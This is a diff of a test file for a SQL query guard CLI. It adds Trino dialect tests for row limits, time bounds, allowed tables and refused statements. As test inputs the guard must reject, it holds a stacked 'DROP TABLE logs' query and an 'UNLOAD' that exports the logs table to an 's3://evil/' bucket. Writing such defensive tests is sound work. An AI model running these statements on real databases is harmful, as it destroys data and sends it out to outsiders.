@@ -8,7 +8,7 @@ import json
 
 import pytest
 
-from loglens.cli import guard
+from loglens.devtools.cli import guard
 
 
 def run(sql: str, *extra: str, stdin: str = "") -> tuple[int, str]:
@@ -55,3 +55,30 @@ def test_json_output_and_max_rows() -> None:
 def test_sql_from_standard_input() -> None:
     code, out = run("-", stdin="SELECT 1; DROP TABLE logs")
     assert code == 1 and "(multiple_statements)" in out
+
+
+def test_the_lake_dialect_checks_trino_against_the_lake_table() -> None:
+    sql = "SELECT service, count(*) FROM logs WHERE created_at >= current_timestamp - INTERVAL '1' DAY GROUP BY 1"
+    code, out = run(sql, "--dialect", "trino", "--json")
+    verdict = json.loads(out)
+    assert code == 0 and verdict["dialect"] == "trino" and verdict["relations"] == ["logs"]
+    assert verdict["sql"].endswith("GROUP BY 1 LIMIT 1000")
+
+
+@pytest.mark.parametrize(
+    ("sql", "code_name"),
+    [
+        ("SELECT * FROM logs WHERE trace_id = 'abc'", "unbounded_time"),
+        ("SELECT * FROM daily_log_summary", "relation_not_allowed"),
+        ("UNLOAD (SELECT * FROM logs) TO 's3://evil/'", "command"),
+        ('SELECT "$path" FROM logs WHERE created_at >= current_timestamp - INTERVAL \'1\' DAY', "unknown_column"),
+    ],
+)
+def test_a_lake_refusal_exits_1(sql: str, code_name: str) -> None:
+    code, out = run(sql, "--dialect", "trino")
+    assert code == 1 and out.startswith(f"refused ({code_name}): ")
+
+
+def test_a_trace_lookup_needs_no_range_in_postgres() -> None:
+    code, out = run("SELECT * FROM logs WHERE trace_id = 'abc'")
+    assert code == 0 and out.startswith("allowed")
